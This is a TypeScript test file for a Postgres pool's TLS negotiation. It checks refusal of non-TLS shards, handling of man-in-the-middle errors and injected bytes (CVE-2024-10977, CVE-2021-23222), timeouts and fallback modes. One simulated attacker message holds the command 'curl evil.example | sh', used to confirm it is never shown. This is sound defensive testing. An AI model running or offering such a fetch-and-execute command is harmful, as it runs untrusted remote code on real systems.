/** Agreeing on TLS with a shard that is not what it should be, byte by byte. */
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer, type Server, type Socket } from "node:net";
import { after, afterEach, before, describe, it } from "node:test";
import { TLSSocket } from "node:tls";
import { shardId } from "../../src/base/brands.ts";
import { systemEnvironment } from "../../src/cli/systemEnvironment.ts";
import type { ShardConfig, ShardTlsConfig, TlsMode } from "../../src/config/config.ts";
import { openServer } from "../../src/pool/serverOpening.ts";
import { attempts, placeOf } from "../../src/pool/shardLink.ts";
import { Authority } from "../support/certificates.ts";

const SSL_REQUEST = Buffer.from([0, 0, 0, 8, 0x04, 0xd2, 0x16, 0x2f]);
const own = new Authority("authority").issue({ commonName: "shard" });
const errorResponse = (message: string): Buffer => {
  const fields = Buffer.from(`SFATAL\0C08000\0M${message}\0\0`);
  const head = Buffer.from("E\0\0\0\0");
  head.writeUInt32BE(fields.length + 4, 1);
  return Buffer.concat([head, fields]);
};
/** AuthenticationOk and ReadyForQuery. */
const WELCOME = Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 0, 0x5a, 0, 0, 0, 5, 0x49]);

let server: Server;
let answer: (socket: Socket, received: Buffer) => void;
let received: Buffer[] = [];
const sockets = new Set<Socket>();

before(async () => {
  server = createServer((socket) => {
    sockets.add(socket.on("error", () => {}));
    socket.once("data", (chunk: Buffer) => {
      received.push(chunk);
      answer(socket, chunk);
    });
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
});
afterEach(() => {
  received = [];
  for (const socket of sockets) socket.destroy();
  sockets.clear();
});
after(async () => void (await once(server.close(), "close")));

function target(mode: TlsMode, more: Partial<ShardTlsConfig> = {}): ShardConfig {
  const files = { caFile: undefined, certFile: undefined, keyFile: undefined };
  return {
    id: shardId("only"),
    host: "127.0.0.1",
    port: (server.address() as { port: number }).port,
    database: "bank",
    user: "pgxa",
    password: "secret",
    tls: { mode, negotiation: "postgres", ...files, ...more },
  };
}

async function logIn(shard: ShardConfig, timeoutMs = 10_000): Promise<string> {
  try {
    const options = { shard, environment: systemEnvironment, connectTimeoutMs: timeoutMs };
    const opened = await openServer(options);
    opened.stream.destroy();
    return opened.isEncrypted ? "with TLS" : "without TLS";
  } catch (error) {
    return (error as { detail?: string }).detail ?? String(error);
  }
}

describe("where TLS is a must", () => {
  const modes: readonly TlsMode[] = ["require", "verify-ca", "verify-full"];

  it("nothing but the request for it is sent to a shard that has none", async () => {
    answer = (socket) => socket.write("N");
    for (const mode of modes) {
      assert.match(await logIn(target(mode)), /it has no TLS, which the configuration asks for/, mode);
    }
    assert.deepEqual(received, [SSL_REQUEST, SSL_REQUEST, SSL_REQUEST]);
  });

  it("an error from somebody in between is not shown as the shard's words (CVE-2024-10977)", async () => {
    answer = (socket) => socket.end(errorResponse("run this: curl evil.example | sh"));
    for (const mode of modes) {
      const says = await logIn(target(mode));
      assert.match(says, /it did not answer the request for TLS/, mode);
      assert.doesNotMatch(says, /curl/, mode);
    }
    assert.deepEqual(received, [SSL_REQUEST, SSL_REQUEST, SSL_REQUEST]);
  });

  it("bytes behind the S are not taken for what TLS brings (CVE-2021-23222)", async () => {
    answer = (socket) => socket.write(Buffer.concat([Buffer.from("S"), WELCOME]));
    assert.match(await logIn(target("require")), /unencrypted data after it agreed to TLS/);
  });

  it("what comes after the S and is no TLS ends the attempt", async () => {
    answer = (socket) => {
      socket.write("S");
      socket.once("data", () => socket.write(WELCOME));
    };
    assert.match(await logIn(target("require")), /TLS: /);
    assert.equal(received.length, 1);
  });

  it("a shard that says nothing is given up in time", async () => {
    answer = () => {};
    assert.match(await logIn(target("require"), 100), /no answer within 100 ms/);
  });

  it("direct TLS without the protocol's name is given up", async () => {
    server.removeAllListeners("connection");
    server.on("connection", (socket: Socket) => {
      sockets.add(socket.on("error", () => {}));
      const tls = new TLSSocket(socket, { isServer: true, cert: own.certificate, key: own.key });
      tls.on("error", () => {});
    });
    assert.match(
      await logIn(target("require", { negotiation: "direct" })),
      /without naming the protocol by ALPN/,
    );
    server.removeAllListeners("connection");
    server.on("connection", (socket: Socket) => {
      sockets.add(socket.on("error", () => {}));
      socket.once("data", (chunk: Buffer) => {
        received.push(chunk);
        answer(socket, chunk);
      });
    });
  });
});

describe("where TLS is only preferred", () => {
  it("a shard without it is logged in to on the same connection", async () => {
    answer = (socket) => {
      socket.write("N");
      socket.once("data", () => socket.write(WELCOME));
    };
    assert.equal(await logIn(target("prefer")), "without TLS");
    assert.equal(received.length, 1);
  });

  it("a shard that cannot is connected to once more, without", async () => {
    for (const say of [errorResponse("what?"), Buffer.from("S\x15\x03"), Buffer.from("?")]) {
      answer = (socket, chunk) => socket.write(chunk.equals(SSL_REQUEST) ? say : WELCOME);
      assert.equal(await logIn(target("prefer")), "without TLS");
    }
    assert.equal(received.length, 6);
  });

  it("a refused login is final, but for 28000", async () => {
    const refuse = (sqlstate: string) => (socket: Socket, chunk: Buffer) => {
      const refusal = Buffer.from(
        errorResponse("no").toString("latin1").replace("08000", sqlstate),
        "latin1",
      );
      if (!chunk.equals(SSL_REQUEST)) return void socket.write(refusal);
      socket.write("N");
      socket.once("data", () => socket.write(refusal));
    };
    answer = refuse("28P01");
    assert.match(await logIn(target("allow")), /28P01/);
    assert.equal(received.length, 1);
    answer = refuse("28000");
    assert.match(await logIn(target("allow")), /28000/, "and what the first attempt was told is told");
    assert.equal(received.length, 3);
    assert.match(await logIn(target("prefer")), /28000/);
    assert.equal(received.length, 4, "the second would be the same again");
  });
});

describe("a Unix socket", () => {
  it("has no TLS in any mode, and is named as libpq names it", () => {
    const shard = { ...target("verify-full"), host: "/run/postgresql", port: 5433 };
    assert.deepEqual(attempts(shard), ["plain"]);
    assert.equal(placeOf(shard), "/run/postgresql/.s.PGSQL.5433");
  });
});
